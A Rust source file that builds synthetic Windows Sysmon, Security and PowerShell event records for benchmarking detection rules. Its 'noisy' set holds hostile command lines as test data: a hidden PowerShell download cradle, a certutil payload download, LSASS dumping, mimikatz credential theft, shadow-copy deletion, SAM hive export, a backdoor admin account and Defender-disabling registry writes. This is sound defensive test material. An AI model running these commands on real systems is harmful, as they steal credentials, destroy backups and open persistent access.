//! Synthetic Windows records for the benchmark matrix.
//!
//! Real data (OTRF) shows typical cost; these two sets bound it. `quiet`
//! records look like busy hosts' everyday Sysmon, Security and PowerShell
//! events but are built from benign values, so every rule's needles are
//! looked up and none fires. `noisy` records pack many known-bad strings
//! into the fields that most rules read, so hundreds of candidate rules
//! are evaluated and many fire. Both are deterministic (a fixed LCG).

use serde_json::{json, Value};

struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        self.0 >> 33
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.next() as usize % xs.len()]
    }
}

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

fn envelope(r: &mut Lcg, channel: &str, provider: &str, id: u64) -> serde_json::Map<String, Value> {
    let host = format!("WKS{:04}.corp.example", r.next() % 5000);
    let mut m = serde_json::Map::new();
    m.insert("@timestamp".into(), json!("2026-11-22T10:15:30.123Z"));
    m.insert("Hostname".into(), json!(host));
    m.insert("Channel".into(), json!(channel));
    m.insert("SourceName".into(), json!(provider));
    m.insert("EventID".into(), json!(id));
    m.insert("RecordNumber".into(), json!(r.next()));
    m.insert("Severity".into(), json!("INFO"));
    m.insert("SourceModuleType".into(), json!("im_msvistalog"));
    m
}

/// Everyday events made of benign values.
pub fn quiet(n: usize) -> Vec<Vec<u8>> {
    let mut r = Lcg(0x5eed);
    let vendors = ["Contoso", "Fabrikam", "Northwind", "Tailspin", "Litware"];
    let apps = ["sync", "agent", "updater", "viewer", "indexer"];
    (0..n)
        .map(|i| {
            let v = r.pick(&vendors);
            let a = r.pick(&apps);
            let image = format!("C:\\Program Files\\{v}\\{a}{}.exe", r.next() % 90);
            let m = match i % 6 {
                0 => {
                    let mut m = envelope(&mut r, SYSMON, "Microsoft-Windows-Sysmon", 1);
                    m.insert("Image".into(), json!(image));
                    m.insert(
                        "CommandLine".into(),
                        json!(format!("\"{image}\" --profile {} --quiet", r.next() % 1000)),
                    );
                    m.insert(
                        "ParentImage".into(),
                        json!(format!("C:\\Program Files\\{v}\\launcher.exe")),
                    );
                    m.insert(
                        "ParentCommandLine".into(),
                        json!(format!("\"C:\\Program Files\\{v}\\launcher.exe\"")),
                    );
                    m.insert(
                        "CurrentDirectory".into(),
                        json!(format!("C:\\Program Files\\{v}\\")),
                    );
                    m.insert("User".into(), json!("CORP\\jdoe"));
                    m.insert("IntegrityLevel".into(), json!("Medium"));
                    m.insert("Company".into(), json!(format!("{v} Ltd")));
                    m.insert("Product".into(), json!(format!("{v} {a}")));
                    m.insert("Description".into(), json!(format!("{v} {a} service")));
                    m.insert("OriginalFileName".into(), json!(format!("{a}.exe")));
                    m.insert(
                        "Hashes".into(),
                        json!(format!("SHA256={:016X}{:016X}", r.next(), r.next())),
                    );
                    m
                }
                1 => {
                    let mut m = envelope(&mut r, SYSMON, "Microsoft-Windows-Sysmon", 3);
                    m.insert("Image".into(), json!(image));
                    m.insert("Protocol".into(), json!("tcp"));
                    m.insert("Initiated".into(), json!("true"));
                    m.insert(
                        "SourceIp".into(),
                        json!(format!("10.1.{}.{}", r.next() % 250, r.next() % 250)),
                    );
                    m.insert("SourcePort".into(), json!(49152 + r.next() % 10000));
                    m.insert(
                        "DestinationIp".into(),
                        json!(format!("10.2.{}.{}", r.next() % 250, r.next() % 250)),
                    );
                    m.insert("DestinationPort".into(), json!(8443));
                    m.insert(
                        "DestinationHostname".into(),
                        json!(format!("{}.{}.example", a, v.to_lowercase())),
                    );
                    m
                }
                2 => {
                    let mut m = envelope(&mut r, SYSMON, "Microsoft-Windows-Sysmon", 11);
                    m.insert("Image".into(), json!(image));
                    m.insert(
                        "TargetFilename".into(),
                        json!(format!("C:\\ProgramData\\{v}\\cache\\{:08x}.dat", r.next())),
                    );
                    m
                }
                3 => {
                    let mut m = envelope(&mut r, SYSMON, "Microsoft-Windows-Sysmon", 13);
                    m.insert("EventType".into(), json!("SetValue"));
                    m.insert("Image".into(), json!(image));
                    m.insert(
                        "TargetObject".into(),
                        json!(format!(
                            "HKLM\\SOFTWARE\\{v}\\{a}\\Settings\\Option{}",
                            r.next() % 50
                        )),
                    );
                    m.insert(
                        "Details".into(),
                        json!(format!("DWORD (0x{:08x})", r.next() % 16)),
                    );
                    m
                }
                4 => {
                    let mut m = envelope(
                        &mut r,
                        "Security",
                        "Microsoft-Windows-Security-Auditing",
                        4624,
                    );
                    m.insert("LogonType".into(), json!(2));
                    m.insert(
                        "TargetUserName".into(),
                        json!(format!("user{}", r.next() % 500)),
                    );
                    m.insert("TargetDomainName".into(), json!("CORP"));
                    m.insert(
                        "WorkstationName".into(),
                        json!(format!("WKS{:04}", r.next() % 5000)),
                    );
                    m.insert("IpAddress".into(), json!("127.0.0.1"));
                    m.insert("LogonProcessName".into(), json!("User32"));
                    m.insert("AuthenticationPackageName".into(), json!("Negotiate"));
                    m.insert(
                        "ProcessName".into(),
                        json!("C:\\Windows\\System32\\svchost.exe"),
                    );
                    m
                }
                _ => {
                    let mut m = envelope(
                        &mut r,
                        "Microsoft-Windows-PowerShell/Operational",
                        "Microsoft-Windows-PowerShell",
                        4104,
                    );
                    m.insert("MessageNumber".into(), json!(1));
                    m.insert("MessageTotal".into(), json!(1));
                    m.insert(
                        "ScriptBlockText".into(),
                        json!(format!(
                            "Get-Date -Format o | Out-File C:\\ProgramData\\{v}\\heartbeat.txt"
                        )),
                    );
                    m.insert(
                        "Path".into(),
                        json!(format!("C:\\Program Files\\{v}\\heartbeat.ps1")),
                    );
                    m
                }
            };
            serde_json::to_vec(&Value::Object(m)).unwrap()
        })
        .collect()
}

/// Events stuffed with known-bad strings: process creations, registry
/// writes and script blocks that many rules fire on.
pub fn noisy(n: usize) -> Vec<Vec<u8>> {
    let mut r = Lcg(0xbad);
    let images = [
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\certutil.exe",
        "C:\\Users\\Public\\mimikatz.exe",
    ];
    let cmdlines = [
        "powershell.exe -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); Invoke-Mimikatz -DumpCreds",
        "cmd.exe /c vssadmin.exe delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet",
        "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\payload.exe & certutil -decode C:\\Users\\Public\\a.b64 C:\\Users\\Public\\a.dll",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full",
        "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"lsadump::sam\" \"lsadump::dcsync /user:krbtgt\" exit",
        "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save & reg.exe save HKLM\\SYSTEM C:\\Users\\Public\\system.save & net user backdoor P@ss /add & net localgroup administrators backdoor /add",
    ];
    let parents = [
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "C:\\Windows\\System32\\wscript.exe",
        "C:\\Windows\\System32\\mshta.exe",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    ];
    (0..n)
        .map(|i| {
            let m = match i % 3 {
                0 | 1 => {
                    let mut m = envelope(&mut r, SYSMON, "Microsoft-Windows-Sysmon", 1);
                    m.insert("Image".into(), json!(r.pick(&images)));
                    m.insert("CommandLine".into(), json!(r.pick(&cmdlines)));
                    m.insert("ParentImage".into(), json!(r.pick(&parents)));
                    m.insert("ParentCommandLine".into(), json!("\"C:\\Windows\\System32\\wscript.exe\" C:\\Users\\Public\\invoice.vbs"));
                    m.insert("CurrentDirectory".into(), json!("C:\\Users\\Public\\"));
                    m.insert("User".into(), json!("NT AUTHORITY\\SYSTEM"));
                    m.insert("IntegrityLevel".into(), json!("System"));
                    m.insert("OriginalFileName".into(), json!("PowerShell.EXE"));
                    m.insert("Hashes".into(), json!("IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744"));
                    m
                }
                _ => {
                    let mut m = envelope(&mut r, SYSMON, "Microsoft-Windows-Sysmon", 13);
                    m.insert("EventType".into(), json!("SetValue"));
                    m.insert("Image".into(), json!(r.pick(&images)));
                    m.insert(
                        "TargetObject".into(),
                        json!(r.pick(&[
                            "HKLM\\System\\CurrentControlSet\\Services\\DHCPServer\\Parameters\\CalloutDlls",
                            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                            "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                            "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
                        ])),
                    );
                    m.insert("Details".into(), json!("C:\\Users\\Public\\payload.exe"));
                    m
                }
            };
            serde_json::to_vec(&Value::Object(m)).unwrap()
        })
        .collect()
}
